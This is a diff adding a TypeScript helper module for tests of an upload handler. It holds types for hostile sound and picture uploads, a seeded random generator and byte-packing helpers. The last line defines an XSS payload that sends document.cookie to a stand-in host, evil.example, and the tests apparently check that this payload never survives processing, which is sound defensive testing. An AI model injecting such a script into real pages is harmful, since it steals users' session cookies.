@@ -1,0 +1,43 @@
+import type { Upload } from '../../platform/uploads/recognise.ts'
+
+export type HostileUpload = Upload & {
+  label: string
+  as: 'sound' | 'picture'
+  /** `either`: damage that leaves something to hear or see; then only time, memory and cleanliness are asked for. */
+  expected: 'accepted' | 'refused' | 'either'
+}
+
+export type Sample = Upload & { label: string }
+
+/** The same numbers on every run. */
+export function seededRandom(seed: number): () => number {
+  let state = seed
+  return () => {
+    state = (state + 0x6d2b_79f5) | 0
+    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
+    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
+    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
+  }
+}
+
+export function randomBytes(length: number, random: () => number): Buffer {
+  return Buffer.from(Uint8Array.from({ length }, () => Math.floor(random() * 256)))
+}
+
+export const join = (...parts: readonly (Uint8Array | string)[]): Buffer =>
+  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
+
+export function uint32le(value: number): Buffer {
+  const bytes = Buffer.alloc(4)
+  bytes.writeUInt32LE(value >>> 0)
+  return bytes
+}
+
+export function uint32be(value: number): Buffer {
+  const bytes = Buffer.alloc(4)
+  bytes.writeUInt32BE(value >>> 0)
+  return bytes
+}
+
+/** What a page that is tricked into showing an upload would run; must be nowhere in what we make of it. */
+export const payload = '<script>fetch("//evil.example/"+document.cookie)</script>'
